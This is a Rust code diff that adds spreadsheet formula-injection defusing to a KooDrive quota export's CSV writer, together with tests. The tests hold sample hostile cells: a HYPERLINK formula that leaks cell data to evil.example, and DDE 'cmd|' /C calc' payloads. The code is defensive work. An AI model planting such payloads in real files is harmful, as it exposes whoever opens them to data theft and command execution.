@@ -15,8 +15,13 @@
 //! `directoryStatus,inDirectory` (`yes`/`no`), and after a complete listing
 //! the directory users KooDrive does not know are added (unfiltered) as rows
 //! of state `notInKooDrive`. In JSON each user gains `"directory"` (its
-//! entry or `null`) and the top level `"notInKooDrive"`. A directory cell
-//! that a spreadsheet would run as a formula gets a leading `'` in CSV.
+//! entry or `null`) and the top level `"notInKooDrive"`.
+//!
+//! In CSV, every text cell that a spreadsheet would run as a formula (one
+//! that starts with `=`, `+`, `-`, `@`, a tab or a carriage return: ids,
+//! quotas and times as received, missing and failed ids, directory cells)
+//! gets a leading `'` ([`defused_cell`]); plain numbers such as `-3` stay
+//! numbers. JSON keeps every value raw.
 
 use std::fmt::Write as _;
 
@@ -91,10 +96,10 @@ fn directory_cells(entry: Option<Entry<'_>>) -> [String; 5] {
             "no".to_owned(),
         ],
         Some(e) => [
-            defused(e.name).into_owned(),
-            defused(e.email).into_owned(),
-            defused(e.department.unwrap_or("")).into_owned(),
-            defused(e.status).into_owned(),
+            e.name.to_owned(),
+            e.email.to_owned(),
+            e.department.unwrap_or("").to_owned(),
+            e.status.to_owned(),
             "yes".to_owned(),
         ],
     }
@@ -152,16 +157,47 @@ fn number(n: f64) -> String {
     }
 }
 
-/// Writes one CSV record: fields separated by commas, quoted (RFC 4180, by
-/// `csv-core`'s quoting) when they hold a comma, a quote or a line break;
-/// CRLF at the end. (`csv::Writer` is not used: its other quoting styles
-/// bring Rust's float parser, tens of kilobytes, into the page.)
+/// Whether a cell is a plain decimal number (`-3`, `+0.5`, `1e21`), which a
+/// spreadsheet reads as a number, not a formula.
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
+        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
+        None => (unsigned, None),
+    };
+    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
+    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
+    !(whole.is_empty() && fraction.is_empty())
+        && digits(whole)
+        && digits(fraction)
+        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
+}
+
+/// A cell as it goes into a CSV file: one that a spreadsheet would run as a
+/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return first) gets a
+/// leading `'`, so that no value from a server or a file can become a
+/// command when the file is opened; plain numbers are kept as they are.
+pub fn defused_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_plain_number(cell) => {
+            format!("'{cell}").into()
+        }
+        _ => cell.into(),
+    }
+}
+
+/// Writes one CSV record: each field defused ([`defused_cell`]), fields
+/// separated by commas, quoted (RFC 4180, by `csv-core`'s quoting) when they
+/// hold a comma, a quote or a line break; CRLF at the end. (`csv::Writer` is
+/// not used: its other quoting styles bring Rust's float parser, tens of
+/// kilobytes, into the page.)
 pub(crate) fn write_record<S: AsRef<str>>(out: &mut Vec<u8>, fields: &[S]) {
     for (k, field) in fields.iter().enumerate() {
         if k > 0 {
             out.push(b',');
         }
-        let field = field.as_ref().as_bytes();
+        let field = defused_cell(field.as_ref());
+        let field = field.as_bytes();
         if field
             .iter()
             .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
@@ -430,6 +466,92 @@ mod tests {
         );
         assert_eq!(lines[3], "404,,,,missing,,,,,,");
         assert_eq!(lines.len(), 5);
+    }
+
+    #[test]
+    fn csv_defuses_formulas_in_every_text_cell_and_json_stays_raw() -> Result<(), String> {
+        use super::super::directory::DirectoryFile;
+        let link = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
+        let mut a = UserSpaceQuota::new(link, 0, -3.0);
+        a.quota = "+1+cmd|' /C calc'!A0".into();
+        a.create_time = Some("@SUM(A1)".into());
+        a.expiration_time = Some("\t=1".into());
+        let rows = vec![Row::new(a), Row::new(UserSpaceQuota::new("1001", 10, 1.0))];
+        let states = vec![UsageState::Unknown, UsageState::Normal];
+        let missing = vec!["-2+3+cmd|' /C calc'!A0".to_owned()];
+        let failed = vec!["\r=1".to_owned()];
+        let file = "userId,name\n=1+1,@me\n";
+        let file = DirectoryFile::read("d.csv", file.as_bytes().to_vec())?;
+        let directory = file.apply(file.guessed)?;
+        let join = directory.join(&rows);
+        let only = directory.not_joined(&join);
+        let mut x = input(&rows, &states, &missing);
+        x.shown = &[0, 1];
+        x.failed = &failed;
+        x.directory = Some(DirectoryColumns {
+            directory: &directory,
+            join: &join,
+            only_in_directory: &only,
+        });
+        let csv = to_csv(&x)?;
+        let lines: Vec<&str> = csv.split("\r\n").collect();
+        assert!(
+            lines[1].starts_with(r#""'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'+1+cmd|' /C calc'!A0,-3,,unknown,'@SUM(A1),,"#),
+            "{}",
+            lines[1]
+        );
+        assert!(lines[1].contains("'\t=1"), "{}", lines[1]);
+        assert!(
+            lines[2].starts_with("1001,10,1,0.1,normal,"),
+            "numeric ids and numbers unaffected: {}",
+            lines[2]
+        );
+        assert!(
+            lines[3].starts_with("'-2+3+cmd|' /C calc'!A0,,,,missing,"),
+            "{}",
+            lines[3]
+        );
+        assert!(lines[4].starts_with("\"'\r=1\",,,,failed,"), "{}", lines[4]);
+        assert!(
+            lines[5].starts_with("'=1+1,,,,notInKooDrive,"),
+            "{}",
+            lines[5]
+        );
+        assert!(lines[5].ends_with(",'@me,,,,yes"), "{}", lines[5]);
+        // Every cell of every line: none starts a formula.
+        for line in &lines {
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(line.as_bytes());
+            for record in reader.records() {
+                let record = record.map_err(|e| e.to_string())?;
+                for cell in &record {
+                    let first = cell.chars().next();
+                    let safe = is_plain_number(cell)
+                        || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
+                    assert!(safe, "{cell:?} in {line}");
+                }
+            }
+        }
+        let json = to_json(&x);
+        assert!(
+            json.contains(r#""userId":"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")""#),
+            "{json}"
+        );
+        assert!(json.contains(r#""quota":"+1+cmd|' /C calc'!A0""#), "{json}");
+        Ok(())
+    }
+
+    #[test]
+    fn only_plain_numbers_escape_defusing() {
+        for number in ["-3", "+0.5", "-.5", "1e21", "-1.5E-7", "42"] {
+            assert_eq!(defused_cell(number), number);
+        }
+        for formula in [
+            "-", "+", "-1+1", "-A1", "-1e", "+cmd", "=1", "@A1", "\t1", "\r1",
+        ] {
+            assert_eq!(defused_cell(formula), format!("'{formula}"));
+        }
     }
 
     #[test]
